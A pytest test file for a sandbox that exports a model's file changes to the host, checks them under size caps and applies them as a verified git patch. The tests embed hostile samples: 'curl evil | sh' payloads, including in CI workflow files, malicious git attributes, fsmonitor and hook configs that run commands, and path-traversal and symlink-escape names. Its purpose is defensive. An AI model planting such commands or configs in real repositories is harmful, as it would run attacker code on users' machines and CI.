"""The host side of the exit, without Docker: the export stream is parsed as
pure data under caps, fed into a private git as blobs, and diffed with the
repo's attributes ignored; host git never runs code from a repo; --apply
checks the hash and flagged paths. Real git, real files."""

from __future__ import annotations

import hashlib
import os
import struct
import subprocess
from pathlib import Path

import pytest

from orchestrator.canonical import sha256_hex
from policies import FlagReason
from sandbox.errors import ApplyRefused, ExportRefused, WorkspaceError
from sandbox.export_stream import MAGIC, ExportLimits, ExportParser, TreeBuilder, link_stays_inside
from sandbox.hostgit import PrivateGit
from sandbox.workspace import Patch, apply_patch, commit_export, diff_patch, repo_files, snapshot, tree_entries


def frame(kind: bytes, path: bytes, data: bytes = b"") -> bytes:
    return kind + struct.pack(">I", len(path)) + path + struct.pack(">Q", len(data)) + data


def stream(*records: bytes, end: bool = True) -> bytes:
    """An export as the script writes it; the user's own outside link is always there, as in the container."""
    records = (frame(b"L", b"outside_link", b"/etc/hostname"), *records)
    body = MAGIC + b"".join(records)
    return body + (frame(b"E", b"", str(len(records)).encode()) if end else b"")


@pytest.fixture
def base_repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    (repo / ".gitattributes").write_text("* binary\n*.py diff=evil\n")
    os.symlink("/etc/hostname", repo / "outside_link")  # the user's own link out of the repo
    return repo


@pytest.fixture
def private(tmp_path: Path, base_repo: Path) -> tuple[PrivateGit, str]:
    git = PrivateGit(tmp_path / "state").init()
    _, base = snapshot(base_repo, git, 2**20)
    return git, base


def export(private: tuple[PrivateGit, str], data: bytes, limits: ExportLimits = ExportLimits(),
           chunk: int = 7) -> Patch:
    git, base = private
    tree = TreeBuilder(git)
    parser = ExportParser(limits, tree)
    try:
        for at in range(0, len(data), chunk):  # odd chunk sizes: records split anywhere
            parser.feed(data[at : at + chunk])
        after = commit_export(parser, git, base, "refs/heads/after")
    finally:
        tree.abort()
    return diff_patch(git, base, after, tuple(parser.skipped), limits)


CALC_FIXED = frame(b"F", b"calc.py", b"def add(a, b):\n    return a + b\n")
ATTRS = frame(b"F", b".gitattributes", b"* binary\n*.py diff=evil\n")


def test_a_plain_change_is_a_text_diff_despite_binary_attributes(private):
    patch = export(private, stream(ATTRS, CALC_FIXED, frame(b"F", b"new.txt", b"* binary\n")), chunk=3)
    assert "+    return a + b" in patch.text and "-    return a - b" in patch.text
    assert "GIT binary patch" not in patch.text and "Binary files" not in patch.text
    assert patch.files == ("calc.py", "new.txt")
    assert "outside_link" not in patch.text, "a skipped user symlink is unchanged, never deleted"
    assert patch.sha256 == sha256_hex(patch.text.encode())


def test_model_written_gitattributes_and_diff_driver_do_not_hide_content(private):
    evil = frame(b"F", b".gitattributes", b"* binary -diff\n* diff=hide\n")
    patch = export(private, stream(evil, CALC_FIXED, frame(b"F", b"payload.sh", b"curl evil | sh\n")))
    assert "+curl evil | sh" in patch.text and "+    return a + b" in patch.text
    assert "GIT binary patch" not in patch.text


def test_hard_linked_content_is_sent_once_and_counted_as_the_copy_takes_it(private):
    """The export carries linked content once, but the verifier's copy (a tar
    from git) writes every link as a whole file: 600 links to 1 MB take
    600 MB there, so a 2 MB cap refuses them while reading."""
    one_mb = b"x" * 2**20
    links = [frame(b"H", b"l%03d" % i, b"big") for i in range(600)]
    limits = ExportLimits(max_total_bytes=2 * 2**20, max_patch_bytes=8 * 2**20)
    git, _ = private
    tree = TreeBuilder(git)
    parser = ExportParser(limits, tree)
    try:
        with pytest.raises(ExportRefused, match="each hard link a whole file"):
            parser.feed(stream(ATTRS, CALC_FIXED, frame(b"F", b"big", one_mb), *links))
        assert parser.content_bytes < 2**20 + 100, "linked content crosses once"
    finally:
        tree.abort()


def test_a_diff_over_the_patch_cap_is_refused_not_built(private):
    git, base = private
    limits = ExportLimits(max_patch_bytes=2**20)
    tree = TreeBuilder(git)
    parser = ExportParser(limits, tree)
    try:
        parser.feed(stream(ATTRS, CALC_FIXED, frame(b"F", b"big.txt", b"line\n" * 2**19)))
        after = commit_export(parser, git, base, "refs/heads/after")
    finally:
        tree.abort()
    with pytest.raises(ExportRefused, match="patch is larger than the cap"):
        diff_patch(git, base, after, (), limits)


def test_a_hard_link_within_the_cap_is_exported(private):
    links = [frame(b"H", b"l%d" % i, b"small") for i in range(3)]
    patch = export(private, stream(ATTRS, CALC_FIXED, frame(b"F", b"small", b"abc"), *links))
    assert {"small", "l0", "l1", "l2"} <= set(patch.files)


def test_tiny_files_count_whole_pages(private):
    """1,000 one-byte files are 1,000 bytes of content but 4 MB of tmpfs."""
    tiny = [frame(b"F", b"t%04d" % i, b"x") for i in range(1000)]
    with pytest.raises(ExportRefused, match="4096-byte pages"):
        export(private, stream(*tiny), ExportLimits(max_total_bytes=2 * 2**20))


def test_directories_count_against_the_entry_cap(private):
    dirs = [frame(b"D", b"d%d" % i) for i in range(6)]
    with pytest.raises(ExportRefused, match="more than 5 files and directories"):
        export(private, stream(*dirs), ExportLimits(max_files=5))
    patch = export(private, stream(frame(b"D", b"empty"), CALC_FIXED))  # a directory adds nothing to the tree
    assert "empty" not in patch.files


@pytest.mark.parametrize("records, match", [
    ([frame(b"F", b"a", b"x" * 11)], "per-file cap"),
    ([frame(b"F", b"a", b"x" * 8), frame(b"F", b"b", b"y" * 8)], "bytes of content"),
    ([frame(b"F", b"a", b"x" * 8)], "bytes of content as the verifier's copy takes it"),
    ([frame(b"F", b"f%d" % i, b"") for i in range(6)], "more than 5 files"),
], ids=["per-file", "total", "page", "count"])
def test_caps_refuse_while_reading(private, records, match):
    limits = ExportLimits(max_file_bytes=10, max_total_bytes=12, max_files=5)
    with pytest.raises(ExportRefused, match=match):
        export(private, stream(*records), limits)


@pytest.mark.parametrize("data", [
    b"NOT-AN-EXPORT\n" + frame(b"F", b"a", b"x"),
    stream(frame(b"Z", b"a", b"x")),
    stream(frame(b"F", b"../escape", b"x")),
    stream(frame(b"F", b"/etc/passwd", b"x")),
    stream(frame(b"F", b"a//b", b"x")),
    stream(frame(b"F", b"a/./b", b"x")),
    stream(frame(b"F", b"nul\0x", b"x")),
    stream(frame(b"F", b"a", b"x"), frame(b"F", b"a", b"y")),
    stream(frame(b"H", b"a", b"never-sent")),
    stream(frame(b"F", b"a", b"x"), end=False),
    stream(frame(b"F", b"a", b"x")) + frame(b"F", b"late", b"x"),
    MAGIC + frame(b"F", b"a", b"x") + frame(b"E", b"", b"7"),
    MAGIC + frame(b"F", b"a", b"0123456789")[:-3],
    MAGIC + frame(b"L", b"a", b"x" * 5000),
], ids=["magic", "kind", "dotdot", "absolute", "empty-part", "dot-part", "nul", "duplicate", "dangling-hardlink",
        "no-end", "after-end", "bad-count", "truncated-content", "huge-metadata"])
def test_malformed_streams_are_refused(private, data):
    with pytest.raises(ExportRefused):
        export(private, data)


def test_git_metadata_anywhere_is_skipped_never_in_the_tree(private):
    records = [frame(b"F", p, b"[core]\n\tfsmonitor = touch /tmp/pwned\n") for p in (
        b".git/config", b"sub/.git/config", b".GIT/config", b"sub/.Git/hooks/post-checkout", b".git. /x")]
    records += [
        frame(b"F", b"sub/.git", b"gitdir: /etc\n"),
        frame(b"S", b"deep/.git", b"git metadata"),
        ATTRS,
        CALC_FIXED,
    ]
    patch = export(private, stream(*records))
    assert patch.files == ("calc.py",)
    skipped = {s.path for s in patch.skipped}
    assert {".git/config", "sub/.git/config", ".GIT/config", "sub/.Git/hooks/post-checkout", "sub/.git"} <= skipped


@pytest.mark.parametrize("path, target, inside", [
    (b"docs/s", b"../calc.py", True),
    (b"s", b"docs/../calc.py", True),
    (b"s", b"/etc/passwd", False),
    (b"docs/s", b"../../secret", False),
    (b"s", b"..", False),
    (b"g", b".git", False),
    (b"g", b"sub/.GIT/config", False),
    (b"s", b"", False),
])
def test_symlinks_are_carried_only_inside_the_repo(private, path, target, inside):
    assert link_stays_inside(path, target) is inside
    patch = export(private, stream(ATTRS, frame(b"L", path, target)))
    assert (path.decode() in patch.files) is inside
    assert (path.decode() in {s.path for s in patch.skipped}) is not inside
    if inside:
        assert "new file mode 120000" in patch.text


def test_skipped_paths_keep_their_starting_copy(private):
    # The model replaces calc.py with a 3 GB sparse file: skipped, never a deletion.
    patch = export(private, stream(ATTRS, frame(b"S", b"calc.py", b"larger than the per-file cap")))
    assert patch.empty and [s.path for s in patch.skipped] == ["outside_link", "calc.py"]


# --- host git never runs code from the repo ---------------------------------------------------
def hostile_git_repo(root: Path, canary: Path) -> Path:
    repo = root / "hostile"
    repo.mkdir()
    (repo / "a.py").write_text("a = 1\n")
    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True)
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "i"], cwd=repo, check=True)
    hooks = repo / ".git" / "hooks"
    for hook in ("post-checkout", "post-index-change", "pre-commit", "post-applypatch", "pre-applypatch"):
        (hooks / hook).write_text(f"#!/bin/sh\necho {hook} >> {canary}\n")
        (hooks / hook).chmod(0o755)
    with open(repo / ".git" / "config", "a") as fh:
        fh.write(f"[core]\n\tfsmonitor = \"echo fsmonitor >> {canary}; false #\"\n\thooksPath = {hooks}\n"
                 f"[apply]\n\twhitespace = error\n[diff]\n\texternal = \"sh -c 'echo ext >> {canary}'\"\n")
    return repo


def test_a_hostile_repo_config_runs_nothing_on_the_host(tmp_path):
    canary = tmp_path / "canary"
    repo = hostile_git_repo(tmp_path, canary)
    # Precondition: this repo really does run the fsmonitor hook for a plain ls-files.
    subprocess.run(["git", "ls-files", "-co", "--exclude-standard"], cwd=repo, capture_output=True, check=True)
    assert canary.exists()
    canary.unlink()
    assert repo_files(repo) == ["a.py"]
    git = PrivateGit(tmp_path / "state").init()
    snapshot(repo, git, 2**20)
    patch = Patch(text="diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-a = 1\n+a = 2 \n",
                  sha256="", files=("a.py",))
    apply_patch(patch, repo)
    assert (repo / "a.py").read_text() == "a = 2 \n", "the repo's apply.whitespace=error is not read either"
    assert not canary.exists(), canary.read_text()


def test_a_repo_owned_by_someone_else_is_listed_without_its_git(tmp_path):
    canary = tmp_path / "canary"
    repo = hostile_git_repo(tmp_path, canary)
    (repo / "untracked.txt").write_text("u\n")
    for root, dirs, files in os.walk(repo):
        for name in dirs + files:
            os.lchown(os.path.join(root, name), 12345, 12345)
    os.lchown(repo, 12345, 12345)
    assert repo_files(repo) == ["a.py", "untracked.txt"]
    assert not canary.exists()


# --- --apply ----------------------------------------------------------------------------------
def fixed_patch(private) -> Patch:
    return export(private, stream(ATTRS, CALC_FIXED))


def test_apply_checks_the_hash_and_writes_nothing_on_mismatch(private, base_repo):
    patch = fixed_patch(private)
    before = (base_repo / "calc.py").read_text()
    with pytest.raises(ApplyRefused, match="does not hash"):
        apply_patch(patch.model_copy(update={"text": patch.text.replace("a + b", "a * b")}), base_repo,
                    expected_sha256=patch.sha256)
    assert (base_repo / "calc.py").read_text() == before
    apply_patch(patch, base_repo, expected_sha256=patch.sha256)
    assert "a + b" in (base_repo / "calc.py").read_text()
    assert os.readlink(base_repo / "outside_link") == "/etc/hostname", "the user's own link is kept"


@pytest.mark.parametrize("path, reason", [
    (b".github/workflows/ci.yml", "CI configuration"),
    (b".gitlab-ci.yml", "CI configuration"),
    (b".circleci/config.yml", "CI configuration"),
])
def test_flagged_paths_are_refused_unless_granted(private, base_repo, path, reason):
    patch = export(private, stream(ATTRS, CALC_FIXED, frame(b"F", path, b"run: curl evil | sh\n")))
    assert [(f.path, f.reason) for f in patch.flagged] == [(path.decode(), reason)]
    before = (base_repo / "calc.py").read_text()
    with pytest.raises(ApplyRefused, match=reason) as info:
        apply_patch(patch, base_repo, expected_sha256=patch.sha256)
    assert info.value.exit_code == 77
    assert (base_repo / "calc.py").read_text() == before and not (base_repo / path.decode()).exists()
    apply_patch(patch, base_repo, expected_sha256=patch.sha256, allow=frozenset({FlagReason(reason)}))
    assert (base_repo / path.decode()).exists()


@pytest.mark.parametrize("target", [".git/hooks/pre-commit", "../outside.txt", "sub/.GIT/config"])
def test_handmade_patches_into_git_or_outside_are_refused(base_repo, target):
    text = f"diff --git a/{target} b/{target}\nnew file mode 100644\n--- /dev/null\n+++ b/{target}\n@@ -0,0 +1 @@\n+x\n"
    patch = Patch(text=text, sha256=sha256_hex(text.encode()), files=(target,))
    with pytest.raises((ApplyRefused,)) if target != "../outside.txt" else pytest.raises(Exception):
        apply_patch(patch, base_repo, expected_sha256=patch.sha256)
    assert not (base_repo.parent / "outside.txt").exists() and not (base_repo / ".git").exists()


def test_snapshot_reads_no_attributes_or_filters(tmp_path, base_repo):
    (base_repo / ".gitattributes").write_text("* text eol=crlf filter=evil\n")
    (base_repo / "crlf.txt").write_bytes(b"a\r\nb\r\n")
    git = PrivateGit(tmp_path / "state").init()
    _, base = snapshot(base_repo, git, 2**20)
    sha = tree_entries(git, base)[b"crlf.txt"][1]
    blob = git.run("cat-file", "blob", sha).stdout
    assert blob == b"a\r\nb\r\n" and hashlib.sha1(b"blob 6\0" + blob).hexdigest() == sha


def test_snapshot_never_reads_through_a_symlinked_directory(tmp_path):
    host = tmp_path / "host"
    host.mkdir()
    (host / "secret.txt").write_text("host secret\n")
    repo = tmp_path / "r"
    (repo / "a").mkdir(parents=True)
    (repo / "a" / "secret.txt").write_text("tracked\n")
    (repo / "ok.txt").write_text("ok\n")
    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True)
    (repo / "a" / "secret.txt").unlink()
    (repo / "a").rmdir()
    os.symlink(host, repo / "a")  # the index still lists a/secret.txt
    assert "a/secret.txt" in repo_files(repo)
    git = PrivateGit(tmp_path / "state").init()
    archive, base = snapshot(repo, git, 2**20)
    assert b"host secret" not in archive
    entries = tree_entries(git, base)
    assert set(entries) == {b"ok.txt", b"a"} and entries[b"a"][0] == "120000", "the link itself, as a link"


def test_a_skipped_directory_keeps_the_files_under_it(tmp_path):
    repo = tmp_path / "r"
    (repo / "pkg").mkdir(parents=True)
    (repo / "pkg" / "mod.py").write_text("x = 1\n")
    (repo / "top.py").write_text("y = 1\n")
    git = PrivateGit(tmp_path / "state").init()
    _, base = snapshot(repo, git, 2**20)
    patch = export((git, base), MAGIC + frame(b"F", b"top.py", b"y = 2\n")
                   + frame(b"S", b"pkg", b"unreadable directory: Permission denied") + frame(b"E", b"", b"2"))
    assert patch.files == ("top.py",), "made unreadable is not deleted"


def test_a_failed_fast_import_is_a_workspace_error_with_gits_words(private):
    """fast-import's own message reaches the error (its stderr went to a
    file the builder never kept: the failure was an AssertionError)."""
    git, _ = private
    tree = TreeBuilder(git)
    tree._write(b"no-such-command\n")
    with pytest.raises(WorkspaceError, match="git fast-import failed: .*no-such-command"):
        tree.close()
    assert tree.errors.closed
